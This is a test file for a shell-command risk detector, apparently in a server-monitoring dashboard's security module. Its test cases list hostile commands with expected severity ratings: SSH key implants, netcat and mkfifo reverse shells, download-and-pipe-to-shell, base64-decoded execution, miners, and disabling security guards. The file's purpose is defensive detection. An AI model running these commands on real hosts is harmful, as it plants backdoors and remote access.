import { describe, expect, test } from 'vitest'
import { evidenceOf } from '#resources/setting/security/evidence.ts'
import { judgeCommand } from '#resources/setting/security/patterns.ts'

const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAINotAKeyNotAKeyNotAKeyNotAKey'

describe('what was planted is recognized', () => {
  test.each([
    [
      `echo "${key} sysop@nezhapwn" >> /root/.ssh/authorized_keys`,
      'critical',
      ['sshKeyWrite', 'sshKeyLiteral', 'knownComment'],
    ],
    ['cat k | tee -a ~/.ssh/authorized_keys', 'critical', ['sshKeyWrite']],
    ['cp /tmp/k /root/.ssh/authorized_keys; true', 'critical', ['sshKeyWrite']],
    ['curl -s https://example.org/k -o /root/.ssh/authorized_keys', 'critical', ['sshKeyWrite']],
    [
      'echo c3NoLWVkMjU1MTkgAAAA | base64 -d >> "$HOME/.ssh/authorized_keys"',
      'critical',
      ['sshKeyWrite', 'sshKeyLiteral', 'b64Decode'],
    ],
    ['echo dHJ1ZQ== | base64 --decode | sudo bash', 'critical', ['b64Shell', 'b64Decode']],
    ['wget -O /tmp/.sys_7 https://example.org/a', 'high', ['hiddenTmp']],
    ['cp a /dev/shm/.kworker_u8; chmod 755 /dev/shm/.kworker_u8', 'critical', ['hiddenTmp']],
    ['setsid /tmp/.font-unix/x &', 'critical', ['hiddenTmp']],
    ['nc -e /bin/sh 198.51.100.7 4444', 'critical', ['revShell']],
    ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 1 > /tmp/f', 'critical', ['revShell']],
    ['./minerd -o stratum+tcp://pool.example.net:3333', 'critical', ['miner']],
    ['echo /usr/lib/x.so > /etc/ld.so.preload', 'high', ['immutable']],
    ['chattr +i /etc/crontab', 'high', ['immutable']],
    ['curl -fsSL https://get.docker.com | sh', 'medium', ['dlPipeShell']],
    ['(wget -qO- http://8.8.4.4/s.sh || curl http://8.8.4.4/s.sh) | sh', 'critical', ['dlPipeShell', 'rawIpHttp']],
    ['sh -c "$(curl -fsSL https://example.org/i.sh)"', 'medium', ['dlSubstShell']],
    ['wget http://8.8.4.4/file', 'medium', ['rawIpHttp']],
    ['certutil -urlcache -f http://example.org/a.exe a.exe', 'medium', ['winDl']],
    ['systemctl stop nezha-agent-7f3a', 'high', ['secondAgent']],
    ['NZ_SERVER=dash.example.net:8008 ./agent.sh', 'high', ['secondAgent']],
    ['systemctl disable --now aegis.service', 'medium', ['guardOff']],
    ['setenforce 0; rm -rf /usr/local/aegis', 'medium', ['guardOff']],
    ['docker run -d --name p iproyal/pawns-cli', 'medium', ['sellBandwidth']],
  ])('%s', (command, level, signs) => {
    const verdict = judgeCommand(command)
    expect(verdict?.signs).toEqual(signs)
    expect(verdict?.level).toBe(level)
  })

  test('a known name counts for little alone, and for much with anything else', () => {
    expect(judgeCommand('uptime', 'AutoTask')).toMatchObject({ level: 'medium', signs: ['knownName'] })
    expect(judgeCommand('curl https://example.org/a | sh', 'mon-check')?.level).toBe('critical')
  })

  test('an agent that reports to this dashboard is less doubtful', () => {
    expect(judgeCommand('NZ_SERVER=dash.example.com:443 ./agent.sh', '', ['dash.example.com'])?.level).toBe('medium')
  })
})

describe('ordinary commands are not doubted', () => {
  test.each([
    'apt-get update && apt-get -y upgrade',
    'certbot renew --quiet',
    'df -h > /tmp/report.txt',
    'chmod 600 ~/.ssh/authorized_keys && wc -l ~/.ssh/authorized_keys',
    'cp ~/.ssh/authorized_keys ~/.ssh/authorized_keys.bak',
    'curl -fsS https://hc-ping.com/abc || echo failed',
    'curl http://192.168.1.10/health',
    'docker run -d --name web nginx',
    'tar czf /var/tmp/backup.tgz /srv && ./upload.sh',
    'ls -la /tmp/../srv/.config',
    'find /tmp -mtime +7 -delete',
    'systemctl restart nezha-agent',
    'echo "$PASSWORD" | base64',
    'ping -c1 8.8.8.8; curl https://example.com',
  ])('%s', (command) => expect(judgeCommand(command)).toBeUndefined())
})

test('evidence: addresses are masked, secrets are left out, and long parts are cut', () => {
  expect(evidenceOf('wget  http://198.51.100.23/a\n')).toBe('wget http://198.51.x.x/a')
  expect(evidenceOf('curl http://[2001:db8:0:1::5]/a')).toBe('curl http://[2001:db8::x]/a')
  expect(evidenceOf('NZ_CLIENT_SECRET=abcdef ./x --token=q1')).toBe('NZ_CLIENT_SECRET=… ./x --token=…')
  expect(evidenceOf('x'.repeat(200))).toHaveLength(91)
})
